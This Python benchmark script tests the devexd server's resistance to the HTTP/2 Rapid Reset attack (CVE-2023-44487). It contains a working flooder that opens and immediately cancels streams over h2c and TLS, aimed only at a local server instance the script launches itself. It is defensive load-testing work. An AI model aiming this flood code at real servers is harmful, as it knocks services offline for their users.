#!/usr/bin/env python3
"""bench_h2_abuse.py: a benchmark (not a test) of HTTP/2 "Rapid Reset"
(CVE-2023-44487) against devexd, issue 17 section 3.

One devexd (the shipped app: development sign-in, Redis, fs storage, local
runtime) with a cleartext and a TLS listener, one fresh redis-server. Phases of
DURATION seconds each:

  baseline         the well-behaved client alone
  reset-h2c PATH   ATTACKERS connections, each sending HEADERS for PATH and an
                   immediate RST_STREAM(CANCEL) as fast as the socket takes
                   them (pre-encoded frames, no flow control to wait for), over
                   cleartext HTTP/2 (prior knowledge); a connection the server
                   closes is replaced by a new one
  reset-tls PATH   the same over TLS (ALPN h2)

for PATH /healthz (answered without yielding) and /api/repl (a Redis script per
request, with the attacker's session cookie). During every phase the
well-behaved client (h2load, 2 connections, open loop at GOOD_RPS requests/s
each) asks for GET /healthz and GET /api/repl (with its own session cookie) and
logs each request's latency; the phase reports its p50/p99, the attacker's
streams/s, devexd's CPU (utime+stime from /proc/PID/stat, % of one CPU), its
peak RSS, the HTTP requests /metrics counted during the phase, devexd's
devex_http2_* counters, and how many attacker connections the server closed.

It builds nothing. Prints a table; writes tests/bench/results/h2_abuse.json.
Exit status 0 when every phase ran; the numbers are not judged here.

Environment (defaults in brackets):
  DEVEXD_BIN   devexd binary [build/devexd]       LUA_DIR  [<repo>/lua]
  THREADS      devexd worker threads [2]          DURATION seconds per phase [8]
  ATTACKERS    attacker connections at once [2]   GOOD_RPS per good connection [100]
  DEVEXD_SERVER_EXTRA  Lua fields added to devexd's server table, e.g.
               'http2_max_resets = 1000000' (to see the unmitigated figures)
"""

import http.client
import json
import os
import re
import shutil
import signal
import socket
import ssl
import struct
import subprocess
import sys
import tempfile
import threading
import time
import urllib.request

ROOT = os.path.abspath(os.path.join(os.path.dirname(__file__), "..", ".."))
DEVEXD_BIN = os.path.abspath(os.path.join(ROOT, os.environ.get("DEVEXD_BIN", "build/devexd")))
LUA_DIR = os.environ.get("LUA_DIR", os.path.join(ROOT, "lua"))
THREADS = int(os.environ.get("THREADS", "2"))
DURATION = float(os.environ.get("DURATION", "8"))
ATTACKERS = int(os.environ.get("ATTACKERS", "2"))
GOOD_RPS = int(os.environ.get("GOOD_RPS", "100"))
SERVER_EXTRA = os.environ.get("DEVEXD_SERVER_EXTRA", "")
RESULTS_DIR = os.environ.get("RESULTS_DIR", os.path.join(ROOT, "tests", "bench", "results"))
TICKS = os.sysconf("SC_CLK_TCK")


def log(msg):
    sys.stderr.write("bench_h2_abuse: %s\n" % msg)


def free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def wait_for(fn, what, timeout=20):
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        try:
            if fn():
                return
        except OSError:
            pass
        time.sleep(0.1)
    raise SystemExit("bench_h2_abuse: %s did not happen within %ss" % (what, timeout))


def proc_stat(pid):
    """(cpu seconds, rss KB) of pid."""
    with open("/proc/%d/stat" % pid) as f:
        fields = f.read().rsplit(")", 1)[1].split()
    cpu = (int(fields[11]) + int(fields[12])) / TICKS
    rss = 0
    with open("/proc/%d/status" % pid) as f:
        for line in f:
            if line.startswith("VmRSS:"):
                rss = int(line.split()[1])
    return cpu, rss


# ---- the attacker ---------------------------------------------------------

def frame(ftype, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", sid) + payload


class Attacker:
    """Opens and immediately resets streams on one connection after another
    until stop; counts streams sent and connections the server closed."""

    BATCH = 64

    def __init__(self, port, tls, path, cookie):
        self.port, self.tls, self.path = port, tls, path
        hdrs = [(":method", "GET"), (":scheme", "https" if tls else "http"), (":path", path),
                (":authority", "127.0.0.1:%d" % port)]
        if cookie:
            hdrs.append(("cookie", cookie))
        # one header block, reused for every stream: every field is a literal
        # without indexing, so decoding it never depends on earlier blocks
        self.block = self._plain_block(hdrs)
        self.streams = 0
        self.closed_by_server = 0
        self.goaways = 0
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self.run, daemon=True)

    @staticmethod
    def _plain_block(hdrs):
        out = b""
        for name, value in hdrs:
            n, v = name.encode(), value.encode()
            out += b"\x00" + Attacker._int(len(n)) + n + Attacker._int(len(v)) + v
        return out

    @staticmethod
    def _int(n):  # 7-bit prefix integer, no Huffman
        if n < 127:
            return bytes([n])
        out = [127]
        n -= 127
        while n >= 128:
            out.append((n & 127) | 128)
            n >>= 7
        out.append(n)
        return bytes(out)

    def connect(self):
        s = socket.create_connection(("127.0.0.1", self.port), timeout=10)
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if self.tls:
            ctx = ssl.create_default_context()
            ctx.check_hostname = False
            ctx.verify_mode = ssl.CERT_NONE
            ctx.set_alpn_protocols(["h2"])
            s = ctx.wrap_socket(s)
        s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
        return s

    def drain(self, s, dead):
        # reads and discards the server's frames, counting GOAWAY; ends at EOF
        buf = b""
        try:
            while not dead.is_set():
                data = s.recv(65536)
                if not data:
                    break
                buf += data
                while len(buf) >= 9:
                    length = int.from_bytes(buf[:3], "big")
                    if len(buf) < 9 + length:
                        break
                    if buf[3] == 7:
                        self.goaways += 1
                    buf = buf[9 + length:]
        except OSError:
            pass
        dead.set()

    def run(self):
        while not self.stop.is_set():
            try:
                s = self.connect()
            except OSError:
                time.sleep(0.05)
                continue
            dead = threading.Event()
            reader = threading.Thread(target=self.drain, args=(s, dead), daemon=True)
            reader.start()
            sid = 1
            try:
                while not self.stop.is_set() and not dead.is_set() and sid < (1 << 31) - 2 * self.BATCH:
                    chunk = []
                    for _ in range(self.BATCH):
                        chunk.append(frame(1, 0x5, sid, self.block))  # END_STREAM|END_HEADERS
                        chunk.append(frame(3, 0, sid, b"\x00\x00\x00\x08"))  # RST_STREAM CANCEL
                        sid += 2
                    s.sendall(b"".join(chunk))
                    self.streams += self.BATCH
            except OSError:
                pass
            if not self.stop.is_set():
                dead.wait(5)
                if dead.is_set():
                    self.closed_by_server += 1
            dead.set()
            try:
                s.close()
            except OSError:
                pass
            reader.join(2)


# ---- the well-behaved client ----------------------------------------------

def good_client(port, cookie, path, seconds, out):
    logf = os.path.join(TMP, "h2load-%s.log" % path.strip("/").replace("/", "_"))
    cmd = ["h2load", "-c", "2", "-m", "1", "--rps", str(GOOD_RPS), "-D", str(int(seconds)),
           "--log-file", logf, "-H", "cookie: " + cookie, "http://127.0.0.1:%d%s" % (port, path)]
    p = subprocess.run(cmd, capture_output=True, text=True, timeout=seconds + 60)
    lat, ok, total = [], 0, 0
    if os.path.exists(logf):
        with open(logf) as f:
            for line in f:
                parts = line.split()
                if len(parts) >= 3:
                    total += 1
                    if parts[1] == "200":
                        ok += 1
                        lat.append(int(parts[2]) / 1000.0)  # ms
        os.unlink(logf)
    lat.sort()

    def pct(q):
        return round(lat[min(len(lat) - 1, int(q * len(lat)))], 2) if lat else None

    m = re.search(r"requests: (\d+) total", p.stdout)
    out[path] = {"requests": total, "ok": ok, "p50_ms": pct(0.5), "p99_ms": pct(0.99),
                 "max_ms": round(lat[-1], 2) if lat else None, "h2load_total": int(m.group(1)) if m else None}


# ---- devexd and Redis ------------------------------------------------------

def metrics(port):
    text = urllib.request.urlopen("http://127.0.0.1:%d/metrics" % port, timeout=10).read().decode()
    http = 0
    h2 = {}
    for line in text.splitlines():
        if line.startswith("devex_http_requests_total{"):
            http += int(float(line.rsplit(" ", 1)[1]))
        elif line.startswith("devex_http2_"):
            name, value = line.rsplit(" ", 1)
            h2[name] = int(float(value))
    return http, h2


def main():
    global TMP
    TMP = tempfile.mkdtemp(prefix="bench_h2_abuse.")
    procs = []
    try:
        rport, port, tport = free_port(), free_port(), free_port()
        procs.append(subprocess.Popen(["redis-server", "--port", str(rport), "--bind", "127.0.0.1", "--save", "",
                                       "--appendonly", "no", "--dir", TMP], stdout=subprocess.DEVNULL,
                                      stderr=subprocess.DEVNULL))
        subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes",
                        "-keyout", TMP + "/key.pem", "-out", TMP + "/cert.pem", "-days", "2", "-subj", "/CN=127.0.0.1"],
                       check=True, capture_output=True)
        os.makedirs(TMP + "/bucket")
        os.makedirs(TMP + "/ws")
        conf = TMP + "/devexd.conf.lua"
        with open(conf, "w") as f:
            f.write("""return {
  server = { listen = { { host = "127.0.0.1", port = %d },
                        { host = "127.0.0.1", port = %d, tls = { cert = "%s/cert.pem", key = "%s/key.pem" } } },
             access_log = false, %s },
  environment = "development",
  frontend_url = "http://localhost:3000",
  dev_login = { enabled = true },
  redis = { url = "redis://127.0.0.1:%d" },
  storage = { driver = "fs", dir = "%s/bucket" },
  runtime = { driver = "local", dir = "%s/ws" },
}
""" % (port, tport, TMP, TMP, SERVER_EXTRA, rport, TMP, TMP))
        wait_for(lambda: socket.create_connection(("127.0.0.1", rport), 1).close() or True, "redis-server")
        dlog = open(TMP + "/devexd.log", "wb")
        devexd = subprocess.Popen([DEVEXD_BIN, "-c", conf, "-L", LUA_DIR, "-t", str(THREADS)],
                                  stdout=dlog, stderr=dlog)
        procs.append(devexd)
        wait_for(lambda: urllib.request.urlopen("http://127.0.0.1:%d/healthz" % port, timeout=2).status == 200,
                 "devexd /healthz")

        def sign_in(user):
            c = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
            c.request("POST", "/auth/dev/login", body=json.dumps({"user": user}),
                      headers={"Content-Type": "application/json"})
            r = c.getresponse()
            r.read()
            c.close()
            for k, v in r.getheaders():
                if k.lower() == "set-cookie" and v.startswith("devex_session="):
                    return v.split(";", 1)[0]
            raise SystemExit("bench_h2_abuse: the dev sign-in gave no cookie (status %d)" % r.status)

        good_cookie, bad_cookie = sign_in("goodclient"), sign_in("attacker")
        phases = [("baseline", None, None)]
        for path in ("/healthz", "/api/repl"):
            phases += [("reset-h2c " + path, False, path), ("reset-tls " + path, True, path)]
        results = []
        for name, tls, path in phases:
            attackers = []
            if path is not None:
                attackers = [Attacker(tport if tls else port, tls, path, bad_cookie) for _ in range(ATTACKERS)]
            http0, h20 = metrics(port)
            cpu0, _ = proc_stat(devexd.pid)
            t0 = time.monotonic()
            for a in attackers:
                a.thread.start()
            good = {}
            threads = [threading.Thread(target=good_client, args=(port, good_cookie, p, DURATION, good))
                       for p in ("/healthz", "/api/repl")]
            for t in threads:
                t.start()
            peak = 0
            while any(t.is_alive() for t in threads):
                peak = max(peak, proc_stat(devexd.pid)[1])
                time.sleep(0.2)
            for a in attackers:
                a.stop.set()
            elapsed = time.monotonic() - t0
            cpu1, rss = proc_stat(devexd.pid)
            for a in attackers:
                a.thread.join(10)
            time.sleep(1)  # in-flight work of the attack settles before /metrics
            http1, h21 = metrics(port)
            row = {
                "phase": name,
                "attack_streams_per_s": round(sum(a.streams for a in attackers) / elapsed) if attackers else 0,
                "attack_conns_closed_by_server": sum(a.closed_by_server for a in attackers),
                "attack_goaways": sum(a.goaways for a in attackers),
                "devexd_cpu_pct": round(100 * (cpu1 - cpu0) / elapsed),
                "devexd_rss_peak_kb": max(peak, rss),
                "http_requests_counted": http1 - http0,
                "http2_counters": {k: v - h20.get(k, 0) for k, v in h21.items()},
                "good": good,
            }
            results.append(row)
            log("%s: %s" % (name, json.dumps(row)))
            if devexd.poll() is not None:
                raise SystemExit("bench_h2_abuse: devexd exited during %s" % name)
        print("HTTP/2 rapid reset against devexd (%d threads), %d attacker connections, %gs per phase, %d CPUs shared"
              % (THREADS, ATTACKERS, DURATION, os.cpu_count()))
        print("%-22s %10s %7s %6s %9s %9s  %-17s %-17s" % ("phase", "streams/s", "closed", "cpu%", "rss MB",
                                                          "counted", "/healthz p50/p99", "/api/repl p50/p99"))
        for r in results:
            g1, g2 = r["good"].get("/healthz", {}), r["good"].get("/api/repl", {})
            print("%-22s %10d %7d %6d %9.1f %9d  %-17s %-17s" % (
                r["phase"], r["attack_streams_per_s"], r["attack_conns_closed_by_server"], r["devexd_cpu_pct"],
                r["devexd_rss_peak_kb"] / 1024, r["http_requests_counted"],
                "%s/%s ms" % (g1.get("p50_ms"), g1.get("p99_ms")), "%s/%s ms" % (g2.get("p50_ms"), g2.get("p99_ms"))))
        os.makedirs(RESULTS_DIR, exist_ok=True)
        with open(os.path.join(RESULTS_DIR, "h2_abuse.json"), "w") as f:
            json.dump({"threads": THREADS, "attackers": ATTACKERS, "duration": DURATION, "server_extra": SERVER_EXTRA,
                       "phases": results}, f, indent=1)
    finally:
        for p in reversed(procs):
            if p.poll() is None:
                p.send_signal(signal.SIGTERM)
                try:
                    p.wait(10)
                except subprocess.TimeoutExpired:
                    p.kill()
        shutil.rmtree(TMP, ignore_errors=True)


if __name__ == "__main__":
    main()
